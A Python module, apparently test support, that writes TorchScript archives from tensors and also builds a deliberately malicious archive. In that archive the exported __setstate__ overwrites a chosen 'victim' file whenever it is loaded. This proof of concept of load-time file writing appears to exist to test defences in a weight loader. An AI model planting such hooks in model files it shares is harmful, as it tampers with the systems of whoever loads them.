"""TorchScript archives: tensors, like OpenAI's weights, and a malicious archive that writes a file when loaded."""

import warnings
from collections.abc import Mapping
from pathlib import Path

import torch
from torch import Tensor, nn

TRAP = """
class Trap(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.weight = torch.ones(2)

    def forward(self, numbers: torch.Tensor) -> torch.Tensor:
        return numbers

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return self.weight, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        torch.save(state[0], {victim!r})
        self.weight = state[0]
        self.training = state[1]
"""


class Part(nn.Module):
    """A module with the submodules and parameters that a state dict names."""

    def __init__(self, state: Mapping[str, Tensor]) -> None:
        super().__init__()
        inner: dict[str, dict[str, Tensor]] = {}
        for name, value in state.items():
            first, _, rest = name.partition(".")
            if rest:
                inner.setdefault(first, {})[rest] = value
            else:
                self.register_parameter(first, nn.Parameter(value, requires_grad=False))
        for first, part in inner.items():
            self.add_module(first, Part(part))

    def forward(self, numbers: Tensor) -> Tensor:
        return numbers


def save_archive(state: Mapping[str, Tensor], path: Path) -> Path:
    """Save tensors as a TorchScript archive and return its path."""
    return _script(Part(state), path)


def save_trap(path: Path, victim: Path) -> Path:
    """Save an archive that overwrites the victim when TorchScript loads it, and return the archive's path."""
    # TorchScript compiles the source of a class, so the victim's path must be a literal in a file.
    source = path.with_name("trap_source.py")
    source.write_text(TRAP.format(victim=str(victim)), encoding="utf-8")
    space: dict[str, object] = {"torch": torch, "__name__": "trap_source"}
    exec(compile(source.read_text(encoding="utf-8"), str(source), "exec"), space)
    trap = space["Trap"]
    assert isinstance(trap, type)
    try:
        return _script(trap(), path)
    finally:
        source.unlink()


def _script(module: nn.Module, path: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # TorchScript is deprecated
        torch.jit.script(module).save(str(path))
    return path
